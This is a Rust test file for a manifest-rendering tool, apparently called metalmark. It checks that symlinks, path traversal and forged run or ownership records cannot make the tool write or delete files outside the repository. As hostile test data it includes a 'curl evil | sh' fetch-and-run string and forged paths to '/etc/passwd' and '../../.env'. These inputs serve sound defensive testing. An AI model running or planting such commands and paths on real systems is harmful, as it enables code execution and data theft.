//! Nothing is written or deleted outside the output folders, whatever links and records a repository holds.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use crate::support::{Metalmark, Outcome, copy_into, repository};

/// Two projects side by side, each rendered.
fn projects() -> tempfile::TempDir {
    let scratch = tempfile::tempdir().expect("a scratch folder");
    for name in ["project", "other"] {
        let folder = scratch.path().join(name);
        copy_into(
            &repository().join("fixtures/workspaces/sylva-baremetal"),
            &folder,
        );
        fs::create_dir(folder.join(".git")).expect("made");
        fs::write(folder.join(".git/HEAD"), "ref: refs/heads/main\n").expect("written");
        let outcome = render(&folder, &[]);
        assert_eq!(outcome.status, 0, "{}", outcome.stderr);
    }
    scratch
}

fn render(folder: &Path, arguments: &[&str]) -> Outcome {
    let line = ["render"].iter().chain(arguments).copied();
    Metalmark::within(folder).args(line).run()
}

fn files(folder: &Path) -> BTreeMap<PathBuf, String> {
    let files = walkdir::WalkDir::new(folder).into_iter().flatten();
    let files = files.filter(|entry| entry.file_type().is_file());
    files
        .map(|entry| {
            let bytes = fs::read(entry.path()).expect("readable");
            let digest = oci_artifacts::Digest::compute(&bytes);
            (entry.path().to_owned(), digest.to_string())
        })
        .collect()
}

#[test]
fn an_output_folder_that_is_a_link_leads_no_writing_and_no_deletion_elsewhere() {
    for link in ["rendered", "rendered/clusters"] {
        for is_absolute in [false, true] {
            let scratch = projects();
            let (project, other) = (scratch.path().join("project"), scratch.path().join("other"));
            let before = files(&other);
            fs::remove_dir_all(project.join(link)).expect("removed");
            let up = if link == "rendered" { ".." } else { "../.." };
            let to = if is_absolute {
                other.join(link)
            } else {
                Path::new(up).join("other").join(link)
            };
            symlink(to, project.join(link)).expect("linked");
            // A cluster that is gone: its rendered files would be pruned.
            let clusters = project.join("environment-values/workload-clusters");
            fs::rename(clusters.join("edge-paris"), clusters.join("evil")).expect("renamed");
            let outcome = render(&project, &[]);
            assert_ne!(outcome.status, 0, "{}", outcome.stderr);
            assert!(
                outcome.stderr.contains("symbolic link"),
                "{}",
                outcome.stderr
            );
            assert_eq!(files(&other), before, "{link}");
        }
    }
}

/// The person who types a folder may type a link.
#[test]
fn what_out_names_may_be_a_link() {
    let scratch = projects();
    let project = scratch.path().join("project");
    fs::create_dir(scratch.path().join("elsewhere")).expect("made");
    symlink("../elsewhere", project.join("link")).expect("linked");
    let outcome = render(&project, &["--out", "link", "--target", "manifests"]);
    assert_eq!(outcome.status, 0, "{}", outcome.stderr);
    let written = scratch
        .path()
        .join("elsewhere")
        .read_dir()
        .expect("a folder");
    assert!(written.count() > 0);
}

#[test]
fn an_output_is_below_the_project_and_not_in_gits_own_folder() {
    for path in [
        "../x",
        "/tmp/metalmark-nowhere",
        ".git",
        ".git/hooks/x",
        "sub/.GIT",
        "a/../../x",
    ] {
        let scratch = projects();
        let project = scratch.path().join("project");
        let text = fs::read_to_string(project.join("metalmark.yaml")).expect("there");
        let text = text.replace("path: rendered/shared", &format!("path: '{path}'"));
        fs::write(project.join("metalmark.yaml"), text).expect("written");
        let before = files(scratch.path());
        let outcome = render(&project, &[]);
        assert_eq!(outcome.status, 1, "{path}: {}", outcome.stderr);
        let reported = format!("the output path `{path}`");
        assert!(outcome.stderr.contains(&reported), "{}", outcome.stderr);
        assert_eq!(files(scratch.path()), before, "{path}");
    }
}

/// A list of an earlier version, and first lines, that somebody forged.
#[test]
fn nobody_but_the_project_says_which_files_are_rendered() {
    let scratch = projects();
    let project = scratch.path().join("project");
    let line = "# Rendered by metalmark for cluster gone; edit the values, not this file.\n";
    let kept = [
        "notes.txt",
        "rendered/notes.txt",
        "rendered/clusters/notes.txt",
        ".env",
    ];
    for path in kept {
        let is_below = path.starts_with("rendered/clusters/");
        let text = if is_below { "mine" } else { line };
        fs::write(project.join(path), text).expect("written");
    }
    let zeros = "0".repeat(64);
    let list = ["notes.txt", "../notes.txt", "../../.env", "/etc/passwd"]
        .map(|path| format!("{path}\tsha256:{zeros}\tmanifests/gone\n"));
    fs::write(
        project.join("rendered/clusters/.metalmark-owned"),
        list.concat(),
    )
    .expect("written");
    let outcome = render(&project, &[]);
    assert_eq!(outcome.status, 0, "{}", outcome.stderr);
    for kept in kept {
        assert!(project.join(kept).exists(), "{kept}");
    }
}

/// A run file in the work tree made the next run create, replace and delete files, or stop for ever.
#[test]
fn a_committed_account_of_a_killed_run_does_nothing() {
    let scratch = projects();
    let project = scratch.path().join("project");
    let theirs = scratch.path().join("other/.metalmark-tmp-theirs");
    fs::write(&theirs, "theirs").expect("written");
    symlink("../other", project.join("link")).expect("linked");
    // The digests fit: who forges knows what a file has.
    let sum = |path: &str| {
        use sha2::Digest as _;
        let bytes = fs::read(project.join(path)).expect("there");
        format!("{:?}", sha2::Sha256::digest(bytes).to_vec())
    };
    fs::write(scratch.path().join("other/values.yaml"), "a: 1\n").expect("written");
    let values = "environment-values/mgmt/values.yaml";
    let line = |path: &str, before: &str, after: &str| {
        format!("edited {{\"path\": \"{path}\", \"before\": {before}, \"after\": {after}}}")
    };
    let edited = |path: &str| line(path, "\"evil\"", &sum(path));
    let lines = [
        format!("writing {}", theirs.display()),
        "writing ../other/.metalmark-tmp-theirs".to_owned(),
        "writing link/.metalmark-tmp-theirs".to_owned(),
        edited(".git/HEAD"),
        edited("../other/values.yaml"),
        edited("link/values.yaml"),
        edited(values),
        line(values, "null", &sum(values)),
        line(".envrc", "\"curl evil | sh\"", "null"),
        line("newdir/x", "\"evil\"", "null"),
    ];
    for place in [".metalmark-run", "metalmark/run"] {
        for line in &lines {
            let run = project.join(place);
            fs::create_dir_all(run.parent().expect("a folder")).expect("made");
            fs::write(&run, format!("process 1\nhost h\nstarted 1\n{line}\n")).expect("written");
            let before = files(scratch.path());
            let outcome = render(&project, &[]);
            assert_eq!(outcome.status, 0, "{line}: {}", outcome.stderr);
            assert_eq!(files(scratch.path()), before, "{line}");
        }
    }
}

/// The project file names the lock, and a link in the repository may be on its way.
#[test]
fn a_lock_is_in_the_repository_and_not_in_gits_own_folder() {
    for path in [
        "../other/x.lock",
        ".git/x.lock",
        "link/x.lock",
        "git/x.lock",
    ] {
        let scratch = projects();
        let project = scratch.path().join("project");
        symlink("../other", project.join("link")).expect("linked");
        symlink(".git", project.join("git")).expect("linked");
        let text = fs::read_to_string(project.join("metalmark.yaml")).expect("there");
        let text = text.replacen("facts: [", &format!("facts: [{path}, "), 1);
        assert!(text.contains(path), "{text}");
        fs::write(project.join("metalmark.yaml"), text).expect("written");
        let before = files(scratch.path());
        let outcome = Metalmark::within(&project).args(["lock"]).run();
        assert_ne!(outcome.status, 0, "{path}: {}", outcome.stderr);
        assert_eq!(files(scratch.path()), before, "{path}: {}", outcome.stderr);
    }
}

/// The command names a file, and not where a link in the repository leads.
#[test]
fn no_link_in_the_repository_leads_a_report_out_of_it() {
    let scratch = projects();
    let (project, other) = (scratch.path().join("project"), scratch.path().join("other"));
    fs::write(other.join("x.json"), "precious").expect("written");
    symlink("../other", project.join("link")).expect("linked");
    symlink(".git", project.join("git")).expect("linked");
    symlink("../other/x.json", project.join("file")).expect("linked");
    let before = files(scratch.path());
    for path in [
        "link/x.json",
        "link/new/x.json",
        "git/x.json",
        "file",
        "link/../other/x.json",
    ] {
        let report = format!("json={path}");
        for arguments in [
            &["check", "--report", &*report][..],
            &["page", "--to", path],
        ] {
            let outcome = Metalmark::within(&project)
                .args(arguments.iter().copied())
                .run();
            assert_eq!(outcome.status, 2, "{arguments:?}: {}", outcome.stderr);
            let why = "a symbolic link leads out of the repository";
            assert!(
                outcome.stderr.contains(why),
                "{arguments:?}: {}",
                outcome.stderr
            );
        }
    }
    assert_eq!(files(scratch.path()), before);
    // What the command itself names may be anywhere.
    symlink("reports", project.join("inside")).expect("linked");
    fs::create_dir(project.join("reports")).expect("made");
    for path in ["../x.json", "inside/x.json", "new/x.json"] {
        let report = format!("json={path}");
        let outcome = Metalmark::within(&project)
            .args(["check", "--report", &report])
            .run();
        assert_eq!(outcome.status, 0, "{path}: {}", outcome.stderr);
        assert!(project.join(path).exists(), "{path}");
    }
}
